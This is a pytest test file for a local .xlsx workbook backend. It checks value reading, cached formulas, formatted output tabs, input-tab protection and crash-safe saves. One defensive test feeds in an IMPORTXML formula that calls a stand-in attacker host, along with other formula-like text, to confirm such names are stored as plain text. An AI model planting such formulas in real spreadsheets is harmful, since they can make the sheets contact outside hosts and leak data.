"""The local workbook backend with real .xlsx files: what is read, what is written, what survives."""

from __future__ import annotations

import datetime as dt
import os
import re
import shutil
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest

from models.errors import SheetsError, SpreadsheetNotFound
from models.settings import TabNames
from sheets.backend import SpreadsheetBackend
from sheets.outputs import PACE_COLOURS, Column, Layout, OutputTable, TabWrite
from sheets.parse import parse_inputs
from sheets.xlsx import Formula, XlsxBackend, create_workbook
from sync.demo_data import demo_workbook
from tests.profiles import PROFILE

ACTUALS = [["Email", "Year", "Month", "Signups", "Revenue", "Notes"],
           ["ana@example.com", 2026, 11, 14.5, 1234.5],
           ["bo@example.com", 2026.0, 11, Formula("=7*2", 14), Formula("=1/0", "#DIV/0!")],
           ["cy@example.com", 2026, Formula("=10+1", 11), 3, 99, Formula('="note "&"x"', "note x")]]

SUMMARY_LAYOUT = Layout(
    columns=(Column("Rep", "text", 160), Column("Signups", "number", 75), Column("Signup Goal", "int", 90),
             Column("Signup %", "percent", 80), Column("Revenue", "money", 110), Column("Pace", "text", 85)),
    colour_column="Pace",
    side_block_column=7,
)


def summary(*rows: tuple[object, ...], side: tuple[tuple[object, ...], ...] = ()) -> OutputTable:
    return OutputTable(tab="Summary", layout=SUMMARY_LAYOUT, rows=tuple(rows), side_block=side)  # type: ignore[arg-type]


@pytest.fixture
def workbook(tmp_path: Path) -> Path:
    path = tmp_path / "goals.xlsx"
    create_workbook(path, {"Reps": [["Email", "Name"], ["ana@example.com", "Ana"]], "Actuals": ACTUALS})
    return path


def sheet_xml(path: Path, title: str) -> str:
    workbook = openpyxl.load_workbook(path)
    index = workbook.sheetnames.index(title) + 1
    with zipfile.ZipFile(path) as archive:
        return archive.read(f"xl/worksheets/sheet{index}.xml").decode()


# --- reading ------------------------------------------------------------------------------------------


def test_backend_satisfies_the_protocol(workbook: Path) -> None:
    backend: SpreadsheetBackend = XlsxBackend(workbook)
    assert backend.describe() == f"xlsx workbook {workbook}"
    assert backend.request_count == 0


def test_reads_values_as_sheets_returns_them_unformatted(tmp_path: Path) -> None:
    path = tmp_path / "values.xlsx"
    create_workbook(path, {"Tab": [
        [], [None, None],
        ["text", 5, 5.0, 5.5, True, False, None, "", "  "],
        [None, None, "#REF!", 10**12, 1234.5678, None, None],
        [],
        ["last", None, ""],
        [None], [],
    ]})
    backend = XlsxBackend(path)
    assert backend.read_tabs(["Tab", "Missing"]) == {
        "Tab": [[], [], ["text", 5, 5, 5.5, True, False, None, None, "  "], [None, None, "#REF!", 10**12, 1234.5678],
                [], ["last"]],
        "Missing": None,
    }
    assert backend.request_count == 1
    [five, five_float] = backend.read_tabs(["Tab"])["Tab"][2][1:3]  # type: ignore[index]
    assert type(five) is int and type(five_float) is int


def test_tab_names_match_regardless_of_case(workbook: Path) -> None:
    assert XlsxBackend(workbook).read_tabs(["actuals"])["actuals"] is not None


def test_dates_and_times_read_as_their_text_never_as_numbers(tmp_path: Path) -> None:
    path = tmp_path / "dates.xlsx"
    create_workbook(path, {"Tab": [[dt.date(2026, 11, 3), dt.datetime(2026, 11, 3, 18, 0), dt.date(1900, 3, 1),
                                    dt.time(6, 0), dt.time(13, 5, 9)]]})
    assert XlsxBackend(path).read_tabs(["Tab"])["Tab"] == [
        ["11/3/2026", "11/3/2026 18:00:00", "3/1/1900", "6:00:00 AM", "1:05:09 PM"]]


def test_formula_cells_read_as_their_cached_computed_value(workbook: Path) -> None:
    grid = XlsxBackend(workbook).read_tabs(["Actuals"])["Actuals"]
    assert grid is not None
    assert grid[2] == ["bo@example.com", 2026, 11, 14, "#DIV/0!"]
    assert grid[3] == ["cy@example.com", 2026, 11, 3, 99, "note x"]
    # and the file really holds formulas (the cached values are what an app computed)
    sheet = openpyxl.load_workbook(workbook)["Actuals"]
    assert sheet["D3"].value == "=7*2"


def test_a_formula_never_calculated_reads_as_blank(tmp_path: Path) -> None:
    path = tmp_path / "uncalculated.xlsx"
    create_workbook(path, {"Tab": [[1, Formula("=A1*2")]]})
    assert XlsxBackend(path).read_tabs(["Tab"])["Tab"] == [[1]]


def test_missing_workbook_names_the_path(tmp_path: Path) -> None:
    backend = XlsxBackend(tmp_path / "nope.xlsx")
    with pytest.raises(SpreadsheetNotFound, match=re.escape(str(tmp_path / "nope.xlsx"))):
        backend.read_tabs(["Actuals"])
    with pytest.raises(SpreadsheetNotFound):
        backend.write_tabs([TabWrite(summary())])


def test_a_file_that_is_not_a_workbook_is_a_clear_error(tmp_path: Path) -> None:
    path = tmp_path / "goals.xlsx"
    path.write_text("not a zip")
    with pytest.raises(SheetsError, match=r"could not be read as an \.xlsx file"):
        XlsxBackend(path).read_tabs(["Actuals"])


def test_demo_workbook_round_trips_through_the_parser(tmp_path: Path) -> None:
    tabs = demo_workbook(dt.date(2026, 11, 12))
    path = tmp_path / "demo.xlsx"
    create_workbook(path, tabs)
    names = TabNames()
    titles = {"reps": names.reps, "monthly_goals": names.monthly_goals, "yearly_goals": names.yearly_goals,
              "actuals": names.actuals}
    grids = XlsxBackend(path).read_tabs(list(titles.values()))
    parsed = parse_inputs({kind: grids[title] for kind, title in titles.items()}, titles,  # type: ignore[misc]
                          known_emails=frozenset())
    assert parsed.problems == ()
    assert parsed.rows_read == sum(len(rows) - 1 for rows in tabs.values())


# --- writing ------------------------------------------------------------------------------------------


def test_writes_values_header_formats_widths_colours_and_side_block(workbook: Path) -> None:
    backend = XlsxBackend(workbook)
    table = summary(("Ana", 14.5, 20, 0.725, 1234.5, "behind"), ("Bo", 30.0, 20, 1.5, 99.0, "ahead"),
                    ("Cy", 1.0, None, None, 0.0, "Too early"),
                    side=(("Last sync", "2026-11-03 09:00"), ("Rows read", 42)))
    report = backend.write_tabs([TabWrite(table, apply_layout=True)])
    assert report.value_calls == 1 and report.format_calls == 1 and report.tabs_created == ("Summary",)
    assert backend.request_count == 2  # one read of the file, one write

    assert backend.read_tabs(["Summary"])["Summary"] == [
        ["Rep", "Signups", "Signup Goal", "Signup %", "Revenue", "Pace", None, "Last sync", "2026-11-03 09:00"],
        ["Ana", 14.5, 20, 0.725, 1234.5, "behind", None, "Rows read", 42],
        ["Bo", 30, 20, 1.5, 99, "ahead"],
        ["Cy", 1, None, None, 0, "Too early"],
    ]
    sheet = openpyxl.load_workbook(workbook)["Summary"]
    assert sheet.freeze_panes == "A2"
    assert all(sheet.cell(1, col).font.bold for col in range(1, 7))
    assert sheet["H1"].font.bold and sheet["H2"].font.bold
    assert sheet["B2"].number_format == "#,##0.0"
    assert sheet["C2"].number_format == "#,##0"
    assert sheet["D2"].number_format == "0.00%"
    assert sheet["E2"].number_format == "$#,##0.00"
    assert sheet["A2"].number_format == "General"
    assert sheet.column_dimensions["A"].width == pytest.approx(22.14)
    assert sheet.column_dimensions["E"].width == pytest.approx(15.0)
    assert sheet["F2"].fill.start_color.rgb == "FF" + PACE_COLOURS["behind"].lstrip("#").upper()
    assert sheet["F3"].fill.start_color.rgb == "FF" + PACE_COLOURS["ahead"].lstrip("#").upper()
    assert sheet["F4"].fill.fill_type is None


def test_formula_like_text_is_written_as_text_never_as_a_formula(workbook: Path) -> None:
    names = ['=IMPORTXML("http://evil.example/x","//a")', "+1 555 0100", "-minus", "@handle", "=1+1"]
    backend = XlsxBackend(workbook)
    backend.write_tabs([TabWrite(summary(*[(name, 1.0, 1, 0.1, 1.0, "ahead") for name in names]))])
    grid = backend.read_tabs(["Summary"])["Summary"]
    assert grid is not None
    assert [row[0] for row in grid[1:]] == names
    sheet = openpyxl.load_workbook(workbook)["Summary"]
    assert [sheet.cell(r, 1).value for r in range(2, 7)] == names
    assert all(sheet.cell(r, 1).data_type == "s" for r in range(2, 7))
    xml = sheet_xml(workbook, "Summary")
    assert "<f>" not in xml and "<f " not in xml
    for row in range(2, 7):
        cell = re.search(rf'<c r="A{row}"[^>]*>', xml)
        assert cell is not None and 't="inlineStr"' in cell[0]


def test_input_tabs_keep_their_values_formulas_and_cached_results(workbook: Path) -> None:
    backend = XlsxBackend(workbook)
    before = backend.read_tabs(["Reps", "Actuals"])
    backend.write_tabs([TabWrite(summary(("Ana", 1.0, 1, 0.1, 1.0, "ahead")))])
    backend.write_tabs([TabWrite(summary(("Ana", 2.0, 1, 0.2, 1.0, "ahead")))])
    assert backend.read_tabs(["Reps", "Actuals"]) == before
    sheet = openpyxl.load_workbook(workbook)["Actuals"]
    assert (sheet["D3"].value, sheet["E3"].value, sheet["C4"].value) == ("=7*2", "=1/0", "=10+1")
    assert openpyxl.load_workbook(workbook).sheetnames == ["Reps", "Actuals", "Summary"]


def test_cached_results_of_filled_down_shared_formulas_survive_a_write(tmp_path: Path) -> None:
    path = tmp_path / "goals.xlsx"
    create_workbook(path, {"Actuals": [["A", "B"], [1, Formula("=A2*2", 2)], [2, Formula("=A3*2", 4)],
                                       [3, Formula("=A4*2", 6)]]})
    # store them the way Excel stores a formula filled down: one shared formula
    with zipfile.ZipFile(path) as archive:
        parts = {item.filename: archive.read(item.filename) for item in archive.infolist()}
    xml = parts["xl/worksheets/sheet1.xml"].decode()
    xml = xml.replace("<f>A2*2</f>", '<f t="shared" ref="B2:B4" si="0">A2*2</f>')
    xml = xml.replace("<f>A3*2</f>", '<f t="shared" si="0"/>').replace("<f>A4*2</f>", '<f t="shared" si="0"/>')
    parts["xl/worksheets/sheet1.xml"] = xml.encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    backend = XlsxBackend(path)
    assert backend.read_tabs(["Actuals"])["Actuals"] == [["A", "B"], [1, 2], [2, 4], [3, 6]]
    backend.write_tabs([TabWrite(summary())])
    assert backend.read_tabs(["Actuals"])["Actuals"] == [["A", "B"], [1, 2], [2, 4], [3, 6]]


def test_leftover_rows_and_columns_are_cleared_and_the_tab_keeps_its_place(tmp_path: Path) -> None:
    path = tmp_path / "goals.xlsx"
    create_workbook(path, {"Actuals": ACTUALS, "Summary": [["old"] * 12] * 30, "Reps": [["Email", "Name"]]})
    backend = XlsxBackend(path)
    rows = [(f"Rep {i}", 1.0, 1, 0.1, 1.0, "ahead") for i in range(5)]
    first = backend.write_tabs([TabWrite(summary(*rows, side=(("Last sync", "x"),)))])
    assert first.tabs_created == () and first.format_calls == 0
    second = backend.write_tabs([TabWrite(summary(rows[0]), clear_rows=6, clear_columns=9)])
    assert second.value_calls == 1
    assert backend.read_tabs(["Summary"])["Summary"] == [
        ["Rep", "Signups", "Signup Goal", "Signup %", "Revenue", "Pace"], ["Rep 0", 1, 1, 0.1, 1, "ahead"]]
    assert openpyxl.load_workbook(path).sheetnames == ["Actuals", "Summary", "Reps"]


def test_several_output_tabs_in_one_save(workbook: Path) -> None:
    errors = OutputTable(tab="Sync Errors", layout=Layout(columns=(Column("Tab"), Column("Problem", width=400))),
                         rows=(("Actuals", "Revenue must be a number"),))
    backend = XlsxBackend(workbook)
    report = backend.write_tabs([TabWrite(summary()), TabWrite(errors)])
    assert report.tabs_created == ("Summary", "Sync Errors")
    assert backend.request_count == 2
    grids = backend.read_tabs(["Summary", "Sync Errors"])
    assert grids["Sync Errors"] == [["Tab", "Problem"], ["Actuals", "Revenue must be a number"]]
    assert grids["Summary"] == [["Rep", "Signups", "Signup Goal", "Signup %", "Revenue", "Pace"]]


def test_nothing_to_write_touches_nothing(workbook: Path) -> None:
    before = workbook.stat().st_mtime_ns
    backend = XlsxBackend(workbook)
    assert backend.write_tabs([]).value_calls == 0
    assert backend.request_count == 0 and workbook.stat().st_mtime_ns == before


def test_refuses_to_overwrite_an_input_tab(workbook: Path) -> None:
    table = OutputTable(tab="actuals", layout=Layout(columns=(Column("X"),)), rows=())
    with pytest.raises(SheetsError, match="refusing to overwrite input tab"):
        XlsxBackend(workbook).write_tabs([TabWrite(table)])
    assert XlsxBackend(workbook).read_tabs(["Actuals"])["Actuals"] is not None


def test_odd_values_are_written_safely(workbook: Path) -> None:
    backend = XlsxBackend(workbook)
    backend.write_tabs([TabWrite(summary(("bell\x07name", float("nan"), float("inf"), None, True, "ahead")))])
    assert backend.read_tabs(["Summary"])["Summary"][1] == ["bellname", None, None, None, True, "ahead"]  # type: ignore[index]


# --- atomic save --------------------------------------------------------------------------------------


def test_a_failure_during_save_leaves_the_previous_workbook(workbook: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    backend = XlsxBackend(workbook)
    backend.write_tabs([TabWrite(summary(("Ana", 1.0, 1, 0.1, 1.0, "ahead")))])
    before = workbook.read_bytes()

    def crash(path: Path, cached: object) -> None:
        with path.open("r+b") as half_written:
            half_written.truncate(path.stat().st_size // 2)
        raise OSError("disk full")

    monkeypatch.setattr("sheets.xlsx._restore_cached", crash)
    with pytest.raises(SheetsError, match="the previous file is unchanged"):
        backend.write_tabs([TabWrite(summary(("Bo", 2.0, 1, 0.1, 1.0, "behind")))])
    assert workbook.read_bytes() == before
    assert sorted(p.name for p in workbook.parent.iterdir()) == ["goals.xlsx"]
    monkeypatch.undo()
    assert backend.read_tabs(["Summary"])["Summary"][1][0] == "Ana"  # type: ignore[index]


_WRITER = """
import sys
from pathlib import Path
from sheets.outputs import Column, Layout, OutputTable, TabWrite
from sheets.xlsx import XlsxBackend
backend = XlsxBackend(Path(sys.argv[1]))
layout = Layout(columns=(Column("Rep"), Column("Signups", "number")))
n = 0
print("ready", flush=True)
while True:
    n += 1
    rows = tuple((f"Rep {i} {n}", float(i)) for i in range(3000))
    backend.write_tabs([TabWrite(OutputTable(tab="Summary", layout=layout, rows=rows))])
"""


@pytest.mark.process
@pytest.mark.slow
def test_killing_the_writer_at_any_moment_never_leaves_a_broken_workbook(workbook: Path) -> None:
    # Four writers, each on its own copy of the workbook, each killed at its own moment after it is
    # ready: the four kills run side by side, so the test takes the longest delay, not their sum.
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])}
    # Under CI the kills spread over several saves; the dev suite kills within the first one or two
    # (four busy writers are most of this suite's CPU).
    delays = (0.3, 0.55, 0.8, 1.1) if PROFILE == "ci" else (0.2, 0.3, 0.45, 0.6)
    copies = []
    for index in range(len(delays)):
        copy = workbook.parent / f"writer-{index}" / workbook.name
        copy.parent.mkdir()
        shutil.copy2(workbook, copy)
        copies.append(copy)
    processes = [subprocess.Popen([sys.executable, "-c", _WRITER, str(copy)], env=env, stdout=subprocess.PIPE,
                                  text=True) for copy in copies]
    try:
        for process in processes:
            assert process.stdout is not None and process.stdout.readline().strip() == "ready"
        started = time.monotonic()
        for process, delay in zip(processes, delays, strict=True):
            time.sleep(max(0.0, started + delay - time.monotonic()))
            process.kill()
    finally:
        for process in processes:
            process.kill()
            process.wait(timeout=10)
            assert process.stdout is not None
            process.stdout.close()
    for copy in copies:
        grids = XlsxBackend(copy).read_tabs(["Actuals", "Summary"])
        assert grids["Actuals"] is not None and len(grids["Actuals"]) == 4
        summary_grid = grids["Summary"]
        assert summary_grid is None or len(summary_grid) == 3001
